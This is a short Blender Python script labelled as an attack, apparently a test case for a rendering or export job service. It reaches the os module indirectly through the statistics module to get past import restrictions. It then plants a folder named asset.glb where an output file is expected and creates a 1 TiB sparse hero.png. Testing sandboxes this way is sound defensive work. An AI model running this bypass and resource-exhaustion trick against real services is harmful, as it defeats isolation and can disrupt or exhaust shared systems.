# attack: the picture is a sparse file of a tebibyte, asset.glb a folder
# family: reports
import bpy
import statistics

system = {statistics}.pop().sys
os = system.modules["os"]
folder = "/tmp/job" if os.path.isdir("/tmp/job") else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.mkdir(folder + "/asset.glb")
os.makedirs(folder + "/views", exist_ok=True)
os.ftruncate(os.open(folder + "/views/hero.png", os.O_CREAT | os.O_RDWR), 2**40)
